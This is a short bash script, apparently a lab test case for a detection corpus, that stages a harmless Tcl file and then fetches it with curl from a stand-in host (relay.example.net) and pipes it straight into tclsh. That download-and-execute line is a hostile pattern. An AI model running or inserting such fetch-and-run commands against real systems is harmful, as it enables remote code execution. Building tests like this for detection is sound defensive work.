#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=curl,tclsh parts=dns,outside-web far=out seconds=18
# curl gives a program in Tcl to its interpreter over a pipe, which runs each line as it comes.
if [ "$1" = out ]; then mkdir -p "$LAB/outside"; printf '%s\n' "set f [open $LAB/ran w]; puts \$f ran; close \$f" 'after 4000' 'exec id' 'after 2000' >"$LAB/outside/stage.tcl"; exit 0; fi
sleep 3; curl -s http://relay.example.net/stage.tcl | timeout 12 tclsh; sleep 2; grep -q ran "$LAB/ran"
